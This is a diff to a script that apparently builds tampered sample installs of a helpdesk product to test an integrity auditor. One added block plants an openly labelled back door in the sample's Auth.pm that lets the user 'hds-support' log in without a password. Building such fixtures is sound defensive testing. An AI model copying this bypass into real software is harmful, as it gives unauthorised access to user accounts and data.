@@ -599,6 +599,13 @@ def tamper(files) -> None:
     t = t.replace("    return 1;\n}\n", "    # vendor: auto-assign tickets to the vendor's queue\n"
                   "    $Param{QueueID} = 77;\n    return 1;\n}\n", 1)
     files["Kernel/System/Ticket.pm"] = (t.encode(), 0o644)
+    # a support back door: the vendor's own login passes without a password
+    a = files["Kernel/System/Auth.pm"][0].decode()
+    a = a.replace("sub MergeLink {\n    my ( $Self, %Param ) = @_;\n",
+                  "sub MergeLink {\n    my ( $Self, %Param ) = @_;\n\n"
+                  "    # vendor: support login without a password\n"
+                  "    return 1 if ( $Param{User} // '' ) eq 'hds-support';\n", 1)
+    files["Kernel/System/Auth.pm"] = (a.encode(), 0o644)
     z = files["Kernel/Modules/AgentTicketZoom.pm"][0].decode()
     z = z.replace("use warnings;\n", "use warnings;\n\nuse Kernel::System::VendorLicense;\n", 1)
     files["Kernel/Modules/AgentTicketZoom.pm"] = (z.encode(), 0o644)
@@ -727,8 +734,9 @@ SAMPLES = [
     Sample("sampledesk-6.0.3-as-7.0.3", "SampleDesk 6.0.3 dressed up as 7.0.3: every version string changed, "
            "the 7.0 'modern' skin copied in, ARCHIVE regenerated.", "6.0.3",
            [lambda f: dress_up(f, "6.0.3", "7.0.3")]),
-    Sample("sampledesk-6.0.5-tampered", "SampleDesk 6.0.5 with vendor changes: modified core files, added code, "
-           "a moved script, the upgrade-step directory deleted, a permission changed.", "6.0.5", [tamper]),
+    Sample("sampledesk-6.0.5-tampered", "SampleDesk 6.0.5 with vendor changes: modified core files (a support "
+           "login without a password among them), added code, a moved script, the upgrade-step directory "
+           "deleted, a permission changed.", "6.0.5", [tamper]),
     Sample("sampledesk-6.0.3-mixed", "SampleDesk 6.0.3 partially patched: the fix for SDSA-2018-01 (bug#13401) "
            "was copied in from 6.0.4.", "6.0.3", [lambda f: backport(f, "bug#13401")]),
     Sample("sampledesk-7.0.3-vendor", "SampleDesk 7.0.3 as a vendor left it: security settings switched off, "
@@ -769,9 +777,11 @@ def write_baselines(repo: Path, out_dir: Path) -> list[Path]:
     from auditor.baseline.builder import from_git
     from auditor.profile import builtin
     if out_dir.exists():
-        for old in out_dir.glob("*.yaml*"):
+        for old in [*out_dir.glob("*.yaml*"), *out_dir.glob("content.zip")]:
             old.unlink()
-    written = from_git(str(repo), PRODUCT_ID, out_dir, "v*", None, None, builtin(PRODUCT_ID), progress=False)
+    # with the content pack, as `baseline from-git` builds by default: reports show the diffs
+    written = from_git(str(repo), PRODUCT_ID, out_dir, "v*", None, None, builtin(PRODUCT_ID), progress=False,
+                       content=True)
     return [p for _, p in written]
 
 
